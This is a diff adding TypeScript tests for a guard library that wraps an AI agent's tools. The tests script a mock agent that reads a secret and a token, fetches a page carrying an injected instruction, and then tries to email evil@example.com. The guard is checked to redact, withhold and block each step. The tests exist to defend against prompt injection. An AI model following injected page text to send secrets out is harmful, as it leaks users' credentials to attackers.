@@ -8,7 +8,7 @@ import { MockLanguageModelV3 } from 'ai/test';
 import { z } from 'zod';
 import { decisionTool, Guard, guardTools, type ApprovalRequestPart } from '@toolvet/node/ai-sdk';
 import type { Vetter } from '@toolvet/node';
-import { brokenHost, DROP_REASON, Runs, testHost } from './support.js';
+import { brokenHost, DROP_REASON, INJECTED_PAGE, INJECTION_REASON, resultsHost, Runs, testHost } from './support.js';
 
 const usage = {
   inputTokens: { total: 1, noCache: 1, cacheRead: 0, cacheWrite: 0 },
@@ -275,3 +275,72 @@ for (const how of ['respond', 'plain'] as const) {
     assert.equal(`${decided.status}/${decided.review?.reviewer}`, 'approved/carol');
   });
 }
+
+test('a withheld result never reaches the model, a masked one reaches it masked, and its label holds the next call', async () => {
+  const runs = new Runs();
+  const tools: ToolSet = {
+    fetch_page: tool({
+      description: 'Fetch a web page.',
+      inputSchema: z.object({ url: z.string() }),
+      execute: async ({ url }) => {
+        runs.record({ url });
+        return url.endsWith('/injected') ? INJECTED_PAGE : 'the key is SECRET-abc123 today';
+      },
+    }),
+    fetch_json: tool({
+      description: 'Fetch a JSON document.',
+      inputSchema: z.object({ url: z.string() }),
+      execute: async ({ url }) => {
+        runs.record({ url });
+        return { token: 'tok-123', user: 'bob' };
+      },
+    }),
+    send_email: tool({
+      description: 'Send an email.',
+      inputSchema: z.object({ to: z.string() }),
+      execute: async (args) => {
+        runs.record(args);
+        return 'sent';
+      },
+    }),
+  };
+  const { model, toolResults } = scripted([
+    { toolCalls: [{ id: 't1', name: 'fetch_page', input: { url: 'https://example.com/keys' } }] },
+    { toolCalls: [{ id: 't2', name: 'fetch_json', input: { url: 'https://example.com/me' } }] },
+    { toolCalls: [{ id: 't3', name: 'fetch_page', input: { url: 'https://example.com/injected' } }] },
+    { toolCalls: [{ id: 't4', name: 'send_email', input: { to: 'evil@example.com' } }] },
+    { text: 'Done.' },
+  ]);
+  const guard = new Guard(await resultsHost(), { context: { runId: 'chat-results', agent: 'ops' } });
+  const { requests } = await step(model, guard.tools(tools), ask('Read the pages, then answer by email.'));
+
+  assert.deepEqual(toolResults(), [
+    { type: 'text', value: 'the key is [redacted: secret] today' },
+    { type: 'json', value: { token: '[redacted: token]', user: 'bob' } },
+    { type: 'text', value: `Withheld by toolvet: ${INJECTION_REASON}` },
+  ]);
+  const [request] = requests;
+  assert.equal(request?.toolCall.toolName, 'send_email', 'the label of the withheld page holds the email');
+  const held = await guard.held(request);
+  assert.equal(held.rule, 'contract02.labelled');
+  assert.equal(runs.count, 3, 'the email was not sent');
+});
+
+test("a tool's thrown error is vetted as its result: an injection in it never reaches the model", async () => {
+  const runs = new Runs();
+  const tools: ToolSet = {
+    fetch_page: tool({
+      description: 'Fetch a web page.',
+      inputSchema: z.object({ url: z.string() }),
+      execute: async ({ url }): Promise<string> => {
+        runs.record({ url });
+        throw new Error(INJECTED_PAGE);
+      },
+    }),
+  };
+  const { model, toolResults } = scripted([{ toolCalls: [{ id: 't1', name: 'fetch_page', input: { url: 'https://example.com/' } }] }, { text: 'It failed.' }]);
+  await step(model, guardTools(tools, await resultsHost(), { context: { runId: 'chat-error' } }), ask('Read the page.'));
+  assert.equal(runs.count, 1);
+  // The SDK writes the error as `String(error)`.
+  assert.deepEqual(toolResults(), [{ type: 'error-text', value: `Error: Withheld by toolvet: ${INJECTION_REASON}` }]);
+});
